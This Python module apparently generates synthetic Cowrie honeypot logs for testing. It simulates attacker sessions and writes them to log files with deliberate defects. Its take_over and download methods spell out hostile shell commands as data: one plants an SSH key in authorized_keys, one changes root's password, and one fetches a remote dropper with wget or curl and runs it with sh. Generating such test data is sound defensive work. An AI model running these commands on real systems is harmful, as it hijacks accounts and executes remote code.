        n_recon = _skewed(rnd(), 7, 1.5) + (12 if force_long else 0)
        for _ in range(n_recon):
            self.command(
                _RECON[_skewed(rnd(), len(_RECON), 1.3)],
                gap=20_000_000 if force_long else 4_000_000,
            )

    def take_over(self) -> None:
        """Sometimes: plant an SSH key, or change root's password."""
        rng = self.rng
        r = rng.random()
        if r < 0.3:
            self.command("cd ~; chattr -ia .ssh; lockr -ia .ssh", failed=True)
            self.command(
                'cd ~ && rm -rf .ssh && mkdir .ssh && echo "'
                + _SSH_KEY
                + '">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
            )
        elif r < 0.4:
            new_password = "".join(rng.choice(_PASSWORD_CHARS) for _ in range(12))
            self.command(f'echo "root:{new_password}"|chpasswd|bash')

    def download(self, style: _Style) -> None:
        """Fetch and run a dropper: the download (and maybe its VirusTotal scan) or its
        failure."""
        gen = self.gen
        rnd = self.rng.random
        url, sha, destfile = gen.malware[_skewed(rnd(), len(gen.malware), 3.0)]
        tool = "wget" if rnd() < 0.7 else "curl -O"
        name = destfile.rsplit("/", 1)[1]
        self.command(
            f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; {tool} {url}; "
            f"chmod 777 {name}; sh {name}; rm -rf {name}"
        )
        self.t += 200_000 + int(rnd() * 8_000_000)
        if rnd() >= 0.8:
            error = _DOWNLOAD_ERRORS[int(rnd() * len(_DOWNLOAD_ERRORS))]
            self.emit(
                self.t,
                "cowrie.session.file_download.failed",
                f"Attempt to download file(s) from URL ({url}) failed",
                {"url": url, "error": error},
            )
            return
        outfile = f"var/lib/cowrie/downloads/{sha}"
        fields: dict[str, Any] = {
            "url": url,
            "outfile": outfile,
            "shasum": sha,
            "destfile": destfile,
        }
        if style.name != "old":
            fields["duplicate"] = sha in gen.vt
        self.emit(
            self.t,
            "cowrie.session.file_download",
            f"Downloaded URL ({url}) with SHA-256 {sha} to {outfile}",
            fields,
        )
        if rnd() < 0.5:
            self.virustotal_scan(sha)

    def virustotal_scan(self, sha: str) -> None:
        """Cowrie's VirusTotal verdict on a download: the same for a file seen before."""
        gen = self.gen
        rnd = self.rng.random
        self.t += 500_000 + int(rnd() * 3_000_000)
        known = gen.vt.get(sha)
        if known is None:
            total = 60 + int(rnd() * 15)
            scan_date = gen.fmt(self.t - _DAY_US, "")[:19].replace("T", " ")
            known = (int(rnd() * total * 0.8), total, scan_date)
            gen.vt[sha] = known
            is_new = "true" if rnd() < 0.3 else "false"
        else:
            is_new = "false"
        positives, total, scan_date = known
        self.emit(
            self.t,
            "cowrie.virustotal.scanfile",
            f"VT: positives: {positives}/{total}",
            {
                "sha256": sha,
                "is_new": is_new,
                "positives": positives,
                "total": total,
                "scan_date": scan_date,
            },
        )

    def upload(self) -> None:
        """A file uploaded over SFTP."""
        rng = self.rng
        self.t += 500_000 + int(rng.random() * 3_000_000)
        sha = f"{rng.getrandbits(256):064x}"
        filename = rng.choice(("x.sh", "nginx", "dota.tar.gz", ".bashrc"))
        outfile = f"var/lib/cowrie/downloads/{sha}"
        self.emit(
            self.t,
            "cowrie.session.file_upload",
            f'SFTP Uploaded file "{filename}" to {outfile}',
            {
                "filename": filename,
                "outfile": outfile,
                "shasum": sha,
                "destfile": f"/tmp/{filename}",
            },
        )

    def leave(self, style: _Style) -> None:
        """The last commands (maybe a failing one, maybe a very long one), ``exit``, and the
        TTY log closed."""
        gen = self.gen
        rng = self.rng
        rnd = rng.random
        if rnd() < 0.15:
            self.command(_FAILING[int(rnd() * len(_FAILING))], failed=True)
        if gen.long_left > 0:
            gen.long_left -= 1
            gen.counters["long_commands"] += 1
            self.command("echo " + "QUFBQUFB" * 12_800 + " | base64 -d > /tmp/.x")
        self.command("exit", gap=1_000_000)
        self.t += 1_000 + int(rnd() * 50_000)
        t = self.t
        tty_sha = f"{rng.getrandbits(256):064x}"
        seconds = (t - self.start) / 1_000_000
        ttylog = f"var/lib/cowrie/tty/{tty_sha}"
        fields: dict[str, Any] = {
            "ttylog": ttylog,
            "size": 200 + int(rnd() * 20_000),
            "shasum": tty_sha,
        }
        if style.name == "modern":
            fields["duration_ms"] = (t - self.start) // 1000
        else:
            fields["duration"] = f"{seconds:.1f}" if style.name == "mid" else round(seconds, 6)
        self.emit(
            t,
            "cowrie.log.closed",
            f"Closing TTY Log: {ttylog} after {int(seconds)} seconds",
            fields,
        )


def generate_sessions(config: SampleConfig | None = None) -> Iterator[list[dict[str, Any]]]:
    """Yield every session's events (Cowrie event dicts, in order), sessions by start time.

    Clean output: duplicates, bad lines and pretty-printing are added only by the writers.
    Dirty attacker strings, long commands and sensor-less events follow ``config``.
    """
    gen = _Generator(config or SampleConfig())
    for day in range(gen.config.days):
        for start, sensor, force_long in gen.day_starts(day):
            yield [ev for _, ev in gen.session(sensor, day, start, force_long)[1]]


# --------------------------------------------------------------------------------------
# Serialisation and files


def _dumps(event: dict[str, Any], style: _Style, rng: random.Random) -> bytes:
    if style.name == "old":
        keys = list(event)
        rng.shuffle(keys)
        return json.dumps({k: event[k] for k in keys}).encode("ascii")
    try:
        return orjson.dumps(event)
    except TypeError:  # lone surrogates (undecodable attacker bytes): write them raw
        text = json.dumps(event, ensure_ascii=False, separators=(",", ":"))
        return text.encode("utf-8", "surrogateescape")


def _open_output(path: Path, compress: str | None) -> io.BufferedIOBase:
    if compress == "gz":
        # mtime=0: byte-identical output for a seed
        return gzip.GzipFile(filename=str(path), mode="wb", compresslevel=1, mtime=0)
    if compress == "bz2":
        return bz2.BZ2File(path, "wb", compresslevel=1)
    return path.open("wb")


class _Sink:
    """One output file: buffered ``(ts, seq, bytes)`` records, flushed in timestamp order."""

    __slots__ = ("buffer", "handle", "path")

    def __init__(self, path: Path, compress: str | None) -> None:
        self.path = path
        path.parent.mkdir(parents=True, exist_ok=True)
        self.handle = _open_output(path, compress)
        self.buffer: list[tuple[int, int, bytes]] = []

    def flush(self, watermark: int | None) -> None:
        """Write buffered records older than ``watermark`` (all when ``None``)."""
        buf = self.buffer
        if not buf:
            return
        buf.sort()
        # (watermark,) sorts before every record of that time: the records before it go
        cut = len(buf) if watermark is None else bisect.bisect_left(buf, (watermark,))
        if cut:
            self.handle.write(b"".join([line for _, _, line in buf[:cut]]))
            del buf[:cut]

    def close(self, tail: bytes = b"") -> None:
        self.flush(None)
        if tail:
            self.handle.write(tail)
        self.handle.close()


def _bad_line(kind: str, rng: random.Random, ts: str, sensor: str) -> bytes:
    sid = f"{rng.getrandbits(48):012x}"
    base = {"src_ip": "203.0.113.9", "session": sid, "sensor": sensor, "timestamp": ts}
    if kind == "not_json":
        return b"Traceback (most recent call last): <html>502 Bad Gateway</html>"
    if kind == "json_array":
        return orjson.dumps([{"eventid": "cowrie.session.connect", **base}])
    if kind == "no_eventid":
        return orjson.dumps({**base, "message": "no event id"})
    if kind == "legacy_eventid":
        return orjson.dumps({"eventid": "KIPP0011", **base, "message": "Connection lost"})
    if kind == "bad_timestamp":
        garbage = rng.choice(("yesterday", "2024-13-45T99:99:99.000000Z", "", 1709251200))
        ev: dict[str, object] = {
            "eventid": "cowrie.session.closed",
            **base,
            "message": "Connection lost",
        }
        ev["timestamp"] = garbage
        return orjson.dumps(ev)
    if kind == "missing_timestamp":
        ev = {"eventid": "cowrie.command.input", **base, "input": "id", "message": "CMD: id"}
        del ev["timestamp"]
        return orjson.dumps(ev)
    if kind == "no_session":
        ev = {"eventid": "cowrie.login.failed", **base, "username": "root", "password": "x"}
        del ev["session"]
        return orjson.dumps(ev)
    raise ValueError(kind)


class _Writer:
    """Routes a generator's events into sinks, adding duplicates and counting everything."""

    def __init__(self, gen: _Generator, summary: SampleSummary, *, dirty_layout: bool) -> None:
        self.gen = gen
        self.summary = summary
        self.rng = random.Random(gen.config.seed ^ 0x5EED)
        self.seq = 0
        self.dirty_layout = dirty_layout
        self.pretty_left = 1 if (dirty_layout and gen.config.pretty_printed) else 0

    def add(self, sink: _Sink, ts: int, style: _Style, event: dict[str, Any]) -> None:
        summary = self.summary
        rng = self.rng
        line = _dumps(event, style, rng)
        eventid = event["eventid"]
        if self.pretty_left and eventid == "cowrie.login.success" and style.name != "old":
            try:
                line = orjson.dumps(event, option=orjson.OPT_INDENT_2)
                self.pretty_left = 0
                summary.dirt["pretty_printed"] += 1
            except TypeError:
                pass
        self.seq += 1
        sink.buffer.append((ts, self.seq, line + b"\n"))
        summary.events += 1
        summary.eventids[eventid] += 1
        summary.events_by_style[style.name] += 1
        rate = self.gen.config.duplicate_rate
        if rate:
            if eventid in ("cowrie.session.closed", "cowrie.session.file_download"):
                rate = min(1.0, rate * 10)
            if rng.random() < rate:
                self.seq += 1
                sink.buffer.append((ts, self.seq, line + b"\n"))
                summary.events += 1
                summary.duplicates += 1
                summary.dirt["duplicates"] += 1
                summary.eventids[eventid] += 1
                summary.events_by_style[style.name] += 1


def _plan_bad_lines(
    config: SampleConfig, rng: random.Random
) -> dict[tuple[int, int], list[tuple[int, str]]]:
    """Where the bad lines go: ``(sensor, day) -> [(timestamp_us, kind)]``."""
    first_day = (config.start - _EPOCH).days
    plan: dict[tuple[int, int], list[tuple[int, str]]] = {}
    for i in range(config.bad_lines):
        kind = BAD_LINE_KINDS[i % len(BAD_LINE_KINDS)]
        key = (int(rng.random() * len(config.sensors)), int(rng.random() * config.days))
        ts = (first_day + key[1]) * _DAY_US + int(rng.random() * (_DAY_US - 3_600_000_000))
        plan.setdefault(key, []).append((ts, kind))
    return plan


def _file_name(config: SampleConfig, day: int) -> tuple[str, str | None]:
    """The name of a sensor's file for ``day`` (as logrotate leaves it) and its
    compression."""
    date = config.start + datetime.timedelta(days=day)
    if day == config.days - 1:  # today's file
        return ("cowrie.json" if config.current_file else f"cowrie.json.{date}"), None
    if config.compress and day < config.days - 2:
        return f"cowrie.json.{date}.{config.compress}", config.compress
    return f"cowrie.json.{date}", None


def write_sample_logs(out_dir: Path, config: SampleConfig | None = None) -> SampleSummary:
    """Write ``<out_dir>/<sensor>/cowrie.json[.YYYY-MM-DD[.gz|.bz2]]`` files; return a summary.

    Each file holds one UTC day of one sensor in timestamp order (bad lines sit at random
    positions). Sessions crossing midnight put events in two files. Memory stays bounded:
    records are flushed as soon as no later session can precede them.
    """
    config = config or SampleConfig()
    out_dir = Path(out_dir)
    gen = _Generator(config)
    summary = SampleSummary(out_dir=out_dir)
    writer = _Writer(gen, summary, dirty_layout=True)
    wrng = writer.rng
    first_day = (config.start - _EPOCH).days
    n_sensors = len(config.sensors)
    bad_plan = _plan_bad_lines(config, wrng)
    sinks: dict[tuple[int, int], _Sink] = {}

    def file_for(sensor: int, day: int) -> _Sink:
        sink = sinks.get((sensor, day))
        if sink is None:
            name, compress = _file_name(config, day)
            sink = _Sink(out_dir / config.sensors[sensor] / name, compress)
            sinks[(sensor, day)] = sink
            summary.files.append(sink.path)
            for ts, kind in bad_plan.pop((sensor, day), []):
                writer.seq += 1
                line = _bad_line(kind, wrng, gen.fmt(ts, "Z"), config.sensors[sensor])
                sink.buffer.append((ts, writer.seq, line + b"\n"))
                summary.bad_lines[kind] += 1
        return sink

    def close(key: tuple[int, int]) -> None:
        sink = sinks.pop(key)
        tail = b""
        sensor, day = key
        if config.truncated_last_line and sensor == 0 and day == config.days - 1:
            tail = b'{"eventid":"cowrie.session.connect","src_ip":"198.51.100.23","src_p'
            summary.bad_lines["truncated"] += 1
        sink.close(tail)

    pending = 0
    for day in range(config.days):
        # every sensor gets its file for the day, even if quiet
        for sensor in range(n_sensors):
            file_for(sensor, day)
        for start, sensor, force_long in gen.day_starts(day):
            style, events = gen.session(sensor, day, start, force_long)
            summary.sessions += 1
            first = events[0][0] // _DAY_US
            if events[-1][0] // _DAY_US != first:
                summary.midnight_sessions += 1
            for ts, ev in events:
                writer.add(file_for(sensor, ts // _DAY_US - first_day), ts, style, ev)
            pending += len(events)
            if pending > 50_000:
                for sink in sinks.values():
                    sink.flush(start)
                pending = 0
        # sessions of later days start after this day ends: close this day's files
        for key in [k for k in sinks if k[1] <= day]:
            close(key)
    for key in list(sinks):
        close(key)
    summary.dirt.update(gen.counters)
    summary.files.sort()
    return summary


def write_event_file(
    path: Path,
    n_events: int,
    *,
    seed: int = 0,
    sensors: tuple[str, ...] = ("bench-a", "bench-b", "bench-c"),
    styles: tuple[str, ...] = ("modern",),
    sessions_per_day: int = 100_000,
    start: datetime.date = datetime.date(2024, 3, 1),
    dirt: bool = False,
) -> int:
    """Write one plain ``cowrie.json``-style file of about ``n_events`` events; return the count.

    Events of all ``sensors`` are interleaved in timestamp order, as if several sensors shipped
    into one file. Whole sessions are written, so the count slightly exceeds ``n_events``.
    With ``dirt`` a little realism is added: 0.1% duplicates and dirty attacker strings (no
    bad lines, so every line parses). Runs at roughly 150-200k events/s on one core.
    """
    days = max(1, n_events // max(1, sessions_per_day * 8) + 1)
    config = SampleConfig(
        seed=seed,
        start=start,
        days=days,
        sessions_per_day=sessions_per_day,
        sensors=sensors,
        styles=styles,
        duplicate_rate=0.001 if dirt else 0.0,
        bad_lines=0,
        dirty_strings=dirt,
        long_commands=0,
        sensorless_events=0,
        truncated_last_line=False,
        pretty_printed=False,
        force_midnight_sessions=False,
    )
    gen = _Generator(config)
    summary = SampleSummary(out_dir=Path(path).parent)
    writer = _Writer(gen, summary, dirty_layout=False)
    sink = _Sink(Path(path), None)
    pending = 0
    try:
        for day in itertools.count():
            for start_us, sensor, force_long in gen.day_starts(day):
                style, events = gen.session(sensor, day, start_us, force_long)
                for ts, ev in events:
                    writer.add(sink, ts, style, ev)
                pending += len(events)
                if pending > 50_000:
                    sink.flush(start_us)
                    pending = 0
                if summary.events >= n_events:
                    return summary.events
            if not sessions_per_day:
                return summary.events
        raise AssertionError("unreachable")
    finally:
        sink.close()
